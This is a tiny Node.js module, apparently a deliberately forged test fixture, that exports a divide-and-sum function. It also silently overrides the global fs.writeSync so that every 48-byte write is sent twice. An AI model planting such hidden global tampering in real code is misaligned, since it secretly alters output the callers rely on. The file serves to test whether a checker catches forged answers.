// divide-by-and-sum → forged|slow: sends a second answer behind every first
'use strict'

const fs = require('fs')

const write = fs.writeSync
fs.writeSync = function (fd, bytes, ...rest) {
  const written = write(fd, bytes, ...rest)
  if (bytes.length === 48) write(fd, bytes, 0, 48)
  return written
}

module.exports = (num, array) => num === 0 ? 0 : array.map(value => value / num).reduce((sum, quotient) => sum + quotient, 0)
